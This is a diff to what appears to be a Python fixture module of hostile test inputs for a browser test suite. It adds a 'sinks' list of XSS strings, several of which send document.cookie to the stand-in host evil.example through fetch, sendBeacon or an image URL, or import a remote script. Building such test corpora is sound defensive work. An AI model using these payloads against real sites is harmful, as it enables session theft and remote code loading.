@@ -17,7 +17,10 @@ Families (``FAMILIES`` maps a name to its list; ``ALL`` is every payload once):
   control characters;
 - ``formula``: CSV/spreadsheet formula injection (``=HYPERLINK(...)``, DDE);
 - ``json_sql``: JSON, SQL and header injection;
-- ``long``: very long strings.
+- ``long``: very long strings;
+- ``sinks``: script that does not call ``alert`` but writes ``window.xss``, ``document.title``,
+  ``data-xss``, calls ``fetch``/``sendBeacon``/``window.open``/``print``, navigates or throws, each
+  with a marker the browser test's trap (tests/browser/test_hostile_payloads.py) looks for.
 """
 
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
@@ -361,6 +364,27 @@ LONG = [
     "&" * 1800,
 ]
 
+SINKS = [
+    "<script>window.xss='evil.example'</script>",
+    "<img src=x onerror=window.xss=1>",
+    "<img src=x onerror=\"eval('x'+'ss=1')\">",
+    "<img src=x onerror=\"setTimeout('window.xss=1')\">",
+    "<svg onload=\"document.title='XSS'\">",
+    '<img src=x onerror="document.body.dataset.xss=1">',
+    '<details open ontoggle="document.documentElement.dataset.xss=1">',
+    "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<b id=xss>XSS</b>')\">",
+    "<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">",
+    "<img src=x onerror=\"navigator.sendBeacon('//evil.example/',document.cookie)\">",
+    "<img src=x onerror=\"new Image().src='//evil.example/?c='+document.cookie\">",
+    "<img src=x onerror=\"window.open('//evil.example/')\">",
+    "<img src=x onerror=\"location='//evil.example/'\">",
+    "<img src=x onerror=\"import('//evil.example/x.js')\">",
+    "<img src=x onerror=\"console.warn('__XSS_TRAP__ console')\">",
+    "<img src=x onerror=\"throw new Error('__XSS_TRAP__ thrown')\">",
+    "<script>print()</script>",
+    '<iframe src="//evil.example/"></iframe>',
+]
+
 FAMILIES = {
     "script": SCRIPT,
     "handlers": HANDLERS,
@@ -373,6 +397,7 @@ FAMILIES = {
     "formula": FORMULA,
     "json_sql": JSON_SQL,
     "long": LONG,
+    "sinks": SINKS,
 }
 
 ALL: list[str] = list(dict.fromkeys(p for family in FAMILIES.values() for p in family))
